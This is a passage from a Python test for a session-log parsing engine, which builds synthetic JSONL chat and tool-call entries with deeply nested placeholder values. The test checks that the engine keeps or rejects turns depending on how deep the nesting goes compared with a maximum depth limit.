    diag = {"type": CONTINUITY_EVENT, "timestamp": 1_787_389_201_000,
            "details": {"kind": "flatten", "reason": "registry_miss", "deltaMessages": 1, "payloadBytes": 10}}  # fmt: skip
    entries = [
        {"type": "session", "version": 3, "id": "S", "timestamp": "2026-08-22T09:00:00.000Z", "cwd": "/"},
        {"type": "message", "id": "u1", "parentId": None, "timestamp": "2026-08-22T09:00:00.000Z",
         "message": {"role": "user", "content": [{"type": "text", "text": "x", "deep": "@LIST@"}], "timestamp": 1}},
        {"type": "message", "id": "a1", "parentId": "u1", "timestamp": "2026-08-22T09:00:01.000Z",
         "message": {"role": "assistant", "content": [{"type": "toolCall", "id": "t", "name": "bash", "arguments": "@OBJ@"},
                                                      {"type": "thinking", "thinking": "@LIST@"}],
                     "api": "claude-sdk-oauth", "provider": "claude-sdk-oauth", "model": "m", "stopReason": "toolUse",
                     "usage": {"input": 1, "output": 1}, "timestamp": 1_787_389_200_500, "diagnostics": [diag]}},
        {"type": "message", "id": "r1", "parentId": "a1", "timestamp": "2026-08-22T09:00:02.000Z",
         "message": {"role": "toolResult", "toolCallId": "t", "toolName": "bash", "content": "@LIST@", "timestamp": 2}},
        {"type": "message", "id": "a2", "parentId": "r1", "timestamp": "2026-08-22T09:00:03.000Z",
         "message": {"role": "assistant", "content": "@LIST@", "stopReason": "stop", "timestamp": 1_787_389_203_000,
                     "diagnostics": [diag]}},
    ]  # fmt: skip
    lines = [dumps(e).replace(b'"@LIST@"', deep_list).replace(b'"@OBJ@"', deep_obj) for e in entries]
    engine, recorder, path = run_engine(tmp_path, "s/--p--/2026-08-22T09-00-00-000Z_d.jsonl", lines)
    try:
        assert_same_as_alone(engine, recorder, path, lines)
        shallow_enough = depth + 5 <= MAX_DEPTH  # entry > message > content > block > arguments
        assert len(engine.state.sessions[path].turns) == (2 if shallow_enough else 0)
        assert engine.stats[path].bad_lines == (0 if shallow_enough else 4)
    finally:
        engine.close()
